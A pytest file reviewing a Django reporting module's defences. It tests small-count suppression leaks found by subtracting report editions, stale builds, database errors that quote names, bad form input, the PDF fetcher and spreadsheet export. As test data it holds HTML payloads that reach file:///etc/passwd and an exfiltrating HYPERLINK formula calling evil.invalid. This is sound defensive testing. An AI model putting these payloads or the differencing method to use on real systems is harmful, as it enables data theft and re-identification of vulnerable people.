"""Adversarial review of issue 12 (reports): leaks of small counts, integrity of built reports, bad input, the PDF.

Each test names one property. A failing test is a defect: its docstring says what is wrong (file and line), why it
matters and what right looks like. A passing test proves a property the review looked for, and stays as a
regression test.

The reader of a report is assumed to know every number published in any report they may read, the definitions
of the appendix (reports/definitions.py, e.g. "unique persons reached: different persons with a notification
delivered or refused") and that "<5" means 1 to 4 (reports/suppression.py states the same model).
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from datetime import date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.conf import settings
from django.core.exceptions import ValidationError
from django.db import DataError
from django.test import Client
from django.utils import timezone, translation
from openpyxl import load_workbook  # type: ignore[import-untyped]

from cases.services import person_create
from gvi.accounts.models import Staff
from outreach.services import referrals
from reports import exports, pdf, services
from reports.metrics import METRIC_KINDS, Kind, Metric, Period
from reports.models import Indicator, Report, ReportPlan
from reports.results import metrics_by_key
from reports.suppression import PRIMARY_MARK, WITHHELD_MARK, shown

STOCKHOLM = ZoneInfo("Europe/Stockholm")
JSON = "application/json"
# Counts of persons (the median is a statistic over persons, not a count of them).
PERSON_COUNTS = sorted(k for k, kind in METRIC_KINDS.items() if kind == Kind.PERSONS)
PERSON_COUNTS.remove("notifications.median_days")
SMALL = range(1, 5)


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    with translation.override("en"):
        yield


def at(year: int, month: int, day: int, hour: int = 12) -> datetime:
    return datetime(year, month, day, hour, tzinfo=STOCKHOLM)


@contextmanager
def clock(moment: datetime) -> Iterator[None]:
    with time_machine.travel(moment, tick=False):
        yield


# --------------------------------------------------------------------------------------------------
# Helpers: records through the real services, reports built as the task builds them (without the PDF)


def _refer(world: dict[str, Any], received_on: date, number: int) -> None:
    """Sara (social services, Malmö) registers a self-referral of a new person to the exit program."""
    sara: Staff = world["sara"]
    assert sara.agency is not None
    person = person_create(
        actor=sara, given_name=f"Granskad{number}", family_name="Test", birth_year=2000, purpose="test"
    )
    referrals.referral_create(
        actor=sara,
        source_person=person,
        receiving_agency=sara.agency,
        receiving_team=sara.team,
        reason="Vill ut.",
        source="self",
        received_on=received_on,
    )


def _build(world: dict[str, Any], monkeypatch: pytest.MonkeyPatch, report: Report) -> dict[str, Any]:
    monkeypatch.setattr("reports.pdf.render_pdf", lambda report: b"%PDF-1.7 review")
    built = services.build(report.pk)
    assert built is not None
    assert built.status == Report.Status.DONE, built.error
    assert built.results is not None
    return built.results


def _order(world: dict[str, Any], year: int, quarter: int) -> Report:
    return services.order_report(
        world["lena"], kind="quarterly", year=year, quarter=quarter, baseline_year=year - 1, enqueue=False
    )


def _given_away(first: Mapping[str, Any], second: Mapping[str, Any]) -> dict[str, tuple[Any, Any]]:
    """The counts of persons that two published cells of the same period show as numbers 1 to 4 apart: their
    difference is a count of 1 to 4 persons that no report shows."""
    return {
        key: (first[key], second[key])
        for key in PERSON_COUNTS
        if isinstance(first[key], int) and isinstance(second[key], int) and abs(first[key] - second[key]) in SMALL
    }


# --------------------------------------------------------------------------------------------------
# Leaks: two reports the program lead can order, subtracted


def test_the_current_quarter_ordered_on_two_days_does_not_give_away_the_day_between(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """DEFECT (reports/services.py:99 check_period refuses only `period.first > today`; order_report,
    reports/services.py:147, makes a new edition on every order). The program lead can order the quarter that is
    still running, as often as she likes
    (test_services.test_lena_orders_the_current_quarter_and_year_which_have_begun makes this a feature). Each
    edition counts "the quarter so far", so two orders a day apart are two overlapping spans of days — exactly what
    order_report's docstring says quarters-only ordering prevents ("two overlapping spans of days would give away
    small counts by a subtraction"). Here: five self-referrals by 10 May, one more on 11 May; the editions show 5
    and 6, so one person was referred on 11 May — a count of 1 that every report hides as "<5". Ordering daily gives
    a day-by-day feed of intakes, referrals, relocations.

    Right: only a period that has ended can be ordered (check_period: `period.last >= today` is a field error
    "That period has not ended yet"), or a new edition withholds every count of persons that differs by 1 to 4
    from the same cell of an earlier edition of the period."""
    with clock(at(2013, 5, 10)):
        for n in range(5):
            _refer(world, date(2013, 4, 2 + n), n)
        try:
            first = _order(world, 2013, 2)
        except ValidationError:
            return  # fixed: a period that has not ended is not ordered
        before = _build(world, monkeypatch, first)
    with clock(at(2013, 5, 11)):
        _refer(world, date(2013, 5, 11), 5)
        after = _build(world, monkeypatch, _order(world, 2013, 2))
    then = {k: row["value"] for k, row in metrics_by_key(before).items()}
    now = {k: row["value"] for k, row in metrics_by_key(after).items()}
    assert then["exit.referrals"] == 5  # the scenario is what it says: the 5 are shown ...
    assert _given_away(then, now) == {}, "two editions of the running quarter, subtracted, show a count of 1-4"


def test_a_new_edition_of_an_ended_quarter_does_not_give_away_a_late_record(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """DEFECT (reports/services.py:204 rebuild_report and :225 build: a new edition is counted and suppressed
    on its own, never against the editions already published). Dates that decide a period (a referral's
    received_on, an exit case's opened_on / closed_on, a relocation's moved_on) are typed in and may lie in an
    ended quarter. The program lead builds Q2 on 5 July (5 referrals), a referral dated 20 June is registered on
    11 July, she builds Q2 again: 5 and 6 side by side in the archive, so one person was referred late in June —
    the small count suppression exists to hide. (The schedule's report and a lead's order of the same period are
    the same attack.)

    Right: when a new edition of a period is built, every count of persons whose published number differs by 1
    to 4 from the same cell of an earlier done edition (of that period) is withheld ("x"), and so is any total
    or flow that would give it back (suppression.suppress with those cells `withheld`)."""
    with clock(at(2013, 6, 20)):
        for n in range(5):
            _refer(world, date(2013, 4, 2 + n), n)
    with clock(at(2013, 7, 5)):
        first = _order(world, 2013, 2)
        before = _build(world, monkeypatch, first)
    with clock(at(2013, 7, 11)):
        _refer(world, date(2013, 6, 20), 5)
        first.refresh_from_db()
        again = services.rebuild_report(world["lena"], first)
        after = _build(world, monkeypatch, again)
    then = {k: row["value"] for k, row in metrics_by_key(before).items()}
    now = {k: row["value"] for k, row in metrics_by_key(after).items()}
    assert then["exit.referrals"] == 5
    assert _given_away(then, now) == {}, "two editions of one quarter, subtracted, show a count of 1-4"


def test_the_next_quarters_previous_column_does_not_give_away_a_late_record(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """DEFECT (reports/results.py:191 publish, with reports/suppression.py:241 shown_comparisons: the "previous" and
    "baseline" columns are recounted from today's data and suppressed on their own, never against the report of
    that period already published). Q2's report (built 5 July) shows 5 referrals; a referral dated 20 June is
    registered on 11 July; Q3's report (built 5 October by the schedule) shows Q2 as 6 in its previous column.
    Side by side: one late referral in June, a count of 1.

    Right: a previous or baseline cell is withheld when it differs by 1 to 4 from the same period's cell in a done
    report already published (or the column repeats that published cell as it was, with its edition)."""
    with clock(at(2013, 6, 20)):
        for n in range(5):
            _refer(world, date(2013, 4, 2 + n), n)
    with clock(at(2013, 7, 5)):
        q2 = _build(world, monkeypatch, _order(world, 2013, 2))
    with clock(at(2013, 7, 11)):
        _refer(world, date(2013, 6, 20), 5)
    with clock(at(2013, 10, 5)):
        q3 = _build(world, monkeypatch, _order(world, 2013, 3))
    own = {k: row["value"] for k, row in metrics_by_key(q2).items()}
    as_previous = {k: row["previous"] for k, row in metrics_by_key(q3).items()}
    assert own["exit.referrals"] == 5
    assert _given_away(own, as_previous) == {}, "a quarter's own report and the next one's previous column differ"


# --------------------------------------------------------------------------------------------------
# Leaks: a count of distinct persons beside the counts it is bounded by


def _metrics(numbers: Mapping[str, int]) -> dict[str, Metric]:
    return {key: Metric(key=key, kind=METRIC_KINDS[key], value=value) for key, value in numbers.items()}


def _texts(numbers: Mapping[str, int], quarters: Sequence[Mapping[str, int]] = ()) -> dict[str, str]:
    cells = shown(_metrics(numbers), [_metrics(q) for q in quarters])
    return {key: cell.text for key, cell in cells.items()}


def _domain(text: str) -> range | list[int]:
    if text == PRIMARY_MARK:
        return SMALL
    if text == WITHHELD_MARK:
        return range(40)
    return [int(text.replace(",", ""))]


@pytest.mark.parametrize(
    ("delivered", "refused"),
    [
        (10, 4),  # 14 reached, 10 delivered: refused >= 4, and "<5": exactly 4
        (4, 10),  # the other way round: delivered is 4
    ],
)
def test_unique_persons_reached_does_not_pin_a_suppressed_outcome(delivered: int, refused: int) -> None:
    """DEFECT (reports/metrics.py:217 ROWS and reports/suppression.py:110 suppress: "notifications.reached" is
    a count of persons with only primary suppression; no rule ties it to the outcomes it is made of). The appendix
    defines it as the different persons with a notification delivered or refused, so every reader knows
    reached <= delivered + refused. With 10 delivered (shown), 4 refused ("<5") and 14 persons reached (shown),
    refused >= 14 - 10 = 4, and "<5" leaves only 4. Custom notifications go one per person, so reached =
    delivered + refused is the usual case and the subtraction gives a "<5" away whenever it is at its top.

    Right: when "notifications.delivered" or "notifications.refused" is suppressed, "notifications.reached" is
    withheld too (or reached is treated as a total over delivered and refused in the secondary suppression), so
    that each "<5" keeps two or more possible values."""
    numbers = {
        "notifications.outcomes": delivered + refused,
        "notifications.delivered": delivered,
        "notifications.not_found": 0,
        "notifications.refused": refused,
        "notifications.reached": delivered + refused,  # one notification each
    }
    published = _texts(numbers)
    hidden = [key for key, text in published.items() if text in (PRIMARY_MARK, WITHHELD_MARK)]
    assert hidden, published
    possible: dict[str, set[int]] = {key: set() for key in hidden}
    for candidate in itertools.product(*(_domain(published[key]) for key in hidden)):
        values = {key: int(text) for key, text in published.items() if key not in hidden}
        values |= dict(zip(hidden, candidate, strict=True))
        parts = values["notifications.delivered"] + values["notifications.not_found"] + values["notifications.refused"]
        if parts != values["notifications.outcomes"]:
            continue
        reachable = values["notifications.delivered"] + values["notifications.refused"]
        if values["notifications.reached"] > reachable or (reachable and not values["notifications.reached"]):
            continue
        if _texts(values) == published:
            for key, value in zip(hidden, candidate, strict=True):
                possible[key].add(value)
    small = [key for key in hidden if published[key] == PRIMARY_MARK]
    for key in small:
        assert len(possible[key]) >= 2, f"{key} is worked out as {possible[key]} from {published}"


def test_a_years_unique_persons_reached_does_not_pin_a_quarters_under_five() -> None:
    """DEFECT (reports/metrics.py:248 _NOT_SUMMED and reports/suppression.py:202 withheld_by_quarters: a year's
    "notifications.reached" is never withheld for its quarters, since it is not their sum). But the persons
    reached in a year are the union of those reached in its quarters, so year <= Q1 + Q2 + Q3 + Q4, which every
    reader of the appendix knows. Quarters 6, 5, 5 and "<5" under a year of 20 give Q4 >= 20 - 16 = 4: exactly 4
    (and a person is seldom notified in two quarters, so the year is usually the sum).

    Right: withhold a year's "notifications.reached" when any quarter's is suppressed in its own report (the
    same rule as SUMS_OVER_QUARTERS: add it to that set, or give bounded-by-sum counts their own rule)."""
    quarters = [{"notifications.reached": n} for n in (6, 5, 5, 4)]
    year = {"notifications.reached": 20}
    assert [_texts(q)["notifications.reached"] for q in quarters] == ["6", "5", "5", PRIMARY_MARK]
    shown_year = _texts(year, quarters)["notifications.reached"]
    if shown_year in (PRIMARY_MARK, WITHHELD_MARK):
        return
    fourth = {q for q in SMALL if int(shown_year) <= 6 + 5 + 5 + q}
    assert len(fourth) >= 2, f"the year's {shown_year} persons reached pin the fourth quarter's '<5' to {fourth}"


# --------------------------------------------------------------------------------------------------
# Integrity: a build stuck "running"; a failure's error


def test_a_build_stuck_running_after_its_worker_died_can_be_built_again(
    world: dict[str, Any], as_user: Callable[[str], Client]
) -> None:
    """DEFECT (reports/services.py:194 retry_report takes only FAILED; :207 rebuild_report only DONE;
    :246 build: a stale RUNNING report is taken over only if some task for it arrives). A worker killed at
    CELERY_TASK_TIME_LIMIT (or by the OOM killer) acks the message (task_acks_on_failure_or_timeout), or its
    redelivery arrives within the time limit and returns at `started_at > stale`: no task for the report ever
    comes again. The report then says "Being built" for ever: the page polls every 2 s indefinitely, nobody can
    retry or rebuild it, and for a scheduled report schedule_report's `exists()` never makes another.

    Right: a report RUNNING for longer than the time limit counts as failed: retry_report queues it (and the page
    offers Retry), or report_status / build mark it failed with "The build stopped without finishing"."""
    report = services.order_report(world["lena"], kind="quarterly", year=2024, quarter=2, enqueue=False)
    stale = timezone.now() - timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT + 3600)
    Report.objects.filter(pk=report.pk).update(status=Report.Status.RUNNING, started_at=stale, attempts=1)
    assert as_user("lena").get(f"/reports/{report.pk}/status/").status_code == 200  # a fix may look here
    report.refresh_from_db()
    try:
        queued = services.retry_report(world["lena"], report)
    except ValidationError as error:
        pytest.fail(f"a build that died an hour ago cannot be retried: {error.messages}")
    assert queued.status == Report.Status.QUEUED


def test_a_failed_builds_error_does_not_quote_the_database(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch, as_user: Callable[[str], Client]
) -> None:
    """DEFECT (reports/services.py:260 build: `f"{type(error).__name__}: {error}"`). The module says the
    error is stored "never a traceback (which could quote data)", but the message itself does: PostgreSQL's
    errors carry the statement and, with psycopg's client-side binding (Django's default), its values ("LINE 1:
    ... WHERE family_name = 'Andersson'", "DETAIL: Key (person_id)=(17)"). The error is shown on the report page
    and in the API to everyone who reads reports (the police and exit coordinators too).

    Right: for a database error store only a fixed text ("DataError: the database refused a query; see the log,
    reference <id>") and log the detail; other errors may keep their message (test_tasks expects that)."""
    report = services.order_report(world["lena"], kind="quarterly", year=2024, quarter=2, enqueue=False)

    def breaks(*args: Any, **kwargs: Any) -> Any:
        raise DataError(
            'invalid input syntax for type integer: "Kalle Andersson"\n'
            'LINE 1: ...FROM "cases_person" WHERE "cases_person"."family_name" = \'Andersson\' AND ...'
        )

    monkeypatch.setattr("reports.services.publish", breaks)
    failed = services.build(report.pk)
    assert failed is not None
    assert failed.status == Report.Status.FAILED
    assert failed.error  # the reader is told it failed ...
    assert "Andersson" not in failed.error  # ... but not what was in the database
    page = as_user("petra").get(f"/reports/{report.pk}/")
    assert page.status_code == 200
    assert "Andersson" not in page.content.decode()


# --------------------------------------------------------------------------------------------------
# Bad input


def test_an_indicator_for_a_period_that_has_not_begun_is_refused_by_the_api(
    world: dict[str, Any], as_api_user: Callable[[str], Client]
) -> None:
    """DEFECT (reports/services.py:288 _indicator_period and :298 _check_indicator: no check that the period
    has begun; only the page's form does it, reports/forms.py:154 IndicatorForm.clean). Over the API Lena
    enters police hours for 2099 Q1 (201): a value for a quarter that has not happened, kept for ever beside
    real ones and shown in the trend of the reports of that time. The page and the API must refuse the same.

    Right: the service refuses a period whose first day is after today ({"period_first": "That period has not
    begun."}), so the API answers 400 naming the field, as the form does."""
    today = timezone.localdate()
    future = Period.quarter(today.year + 1, 1)
    body = {
        "kind": "police_hours",
        "period_first": future.first.isoformat(),
        "period_last": future.last.isoformat(),
        "value": "120",
        "source": "Polisregion Syd",
        "source_date": today.isoformat(),
    }
    response = as_api_user("lena").post("/api/report-indicators/", data=json.dumps(body), content_type=JSON)
    assert response.status_code == 400, response.content
    assert "period_first" in response.json()


@pytest.mark.parametrize(
    "path",
    ["/reports/order/", "/reports/indicators/new/", "/reports/plan/"],
)
def test_junk_in_the_report_forms_is_a_form_error_never_a_500(
    world: dict[str, Any], as_user: Callable[[str], Client], path: str
) -> None:
    """Holds: strings for numbers, huge and negative years, decimals and NaN for values, a date out of range,
    unknown choices and huge versions give the form back with errors (200), never a 500, and save nothing."""
    junk = {
        "kind": "<script>",
        "year": "99999999999999999999",
        "quarter": "5",
        "baseline_year": "-1",
        "period_kind": "decade",
        "value": "NaN",
        "source": "",
        "source_date": "9999-12-31",
        "version": "99999999999999999999999",
        "quarterly": "maybe",
    }
    client = as_user("lena")
    client.raise_request_exception = False
    plan = services.plan_for(world["lena"].program)

    def state() -> tuple[int, int, int]:
        return (Report.objects.count(), Indicator.objects.count(), ReportPlan.objects.get(pk=plan.pk).version)

    before = state()
    response = client.post(path, junk)
    assert response.status_code == 200
    assert state() == before


# --------------------------------------------------------------------------------------------------
# The PDF fetches nothing; the exports run no formula


HOSTILE = (
    '<img src="http://fetch.invalid/pixel.png"><link rel="stylesheet" href="http://fetch.invalid/s.css">'
    "<style>@import url(http://fetch.invalid/i.css); body { background: url(file:///etc/passwd) }</style>"
    '<svg><image href="file:///etc/hostname"/></svg>'
)


def test_the_pdf_fetches_nothing_whatever_a_name_or_source_holds(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Holds: a program name and an indicator source with <img>, <link>, <style>@import / url() and an SVG
    <image> are written as text (autoescaped), so WeasyPrint never asks its fetcher for anything; and the
    fetcher refuses file:, data: and http: outright."""
    report: Report = world["malmo_report"]
    report.refresh_from_db()
    assert report.results is not None
    report.program.name = f"Sluta skjut {HOSTILE}"
    for row in report.results["indicators"]:
        for value in row["values"]:
            value |= {"source": f"Källa {HOSTILE}", "value": 12, "source_date": "2024-01-02"}
    asked: list[str] = []
    real = pdf.refusing_fetcher

    def recording() -> Any:
        fetcher = real()
        refuse = fetcher.fetch

        def fetch(url: str, headers: Any = None) -> Any:
            asked.append(url)
            return refuse(url, headers)

        fetcher.fetch = fetch
        return fetcher

    monkeypatch.setattr(pdf, "refusing_fetcher", recording)
    html = pdf.report_html(report)
    assert "<img" not in html
    assert "fetch.invalid/i.css); body" in html  # the text is there, as text
    assert pdf.render_pdf(report).startswith(b"%PDF")
    assert asked == []
    for url in ("file:///etc/passwd", "data:text/css,body{}", "http://fetch.invalid/x.png"):
        with pytest.raises(ValueError, match="fetches nothing"):
            real().fetch(url)


FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Klicka")'


def test_a_program_name_that_is_a_formula_is_exported_as_text(world: dict[str, Any]) -> None:
    """Holds: a program name (and so the export's header) that starts like a formula is written with a leading
    apostrophe in the CSV and as a text cell in the XLSX."""
    report: Report = world["malmo_report"]
    report.refresh_from_db()
    for start in ("=", "+", "-", "@"):
        report.program.name = start + FORMULA[1:]
        rows = list(csv.reader(io.StringIO(exports.csv_bytes(report).decode("utf-8-sig")), delimiter=";"))
        assert rows[0][1] == "'" + report.program.name
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
        sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(report))).worksheets[0]
        cell = sheet.cell(row=1, column=2)
        assert (cell.value, cell.data_type) == ("'" + report.program.name, "s")


# --------------------------------------------------------------------------------------------------
# Access: a deactivated lead and a session without its second factor


def test_a_deactivated_lead_and_an_unverified_session_download_nothing(
    world: dict[str, Any], verified_client: Callable[[str], Client]
) -> None:
    """Holds: the page and the API downloads of a built report need an active user whose session passed the
    second factor."""
    report: Report = world["malmo_report"]
    urls = [f"/reports/{report.pk}/{f}/" for f in ("pdf", "csv", "xlsx")] + [
        f"/api/reports/{report.pk}/{f}/" for f in ("pdf", "csv", "xlsx")
    ]
    unverified = Client()
    unverified.force_login(world["lena"])
    for url in urls:
        response = unverified.get(url)
        assert response.status_code != 200, url
        assert "Content-Disposition" not in response, url
    client = verified_client("lena")
    Staff.objects.filter(pk=world["lena"].pk).update(is_active=False)
    for url in urls:
        response = client.get(url)
        assert response.status_code != 200, url
        assert "Content-Disposition" not in response, url
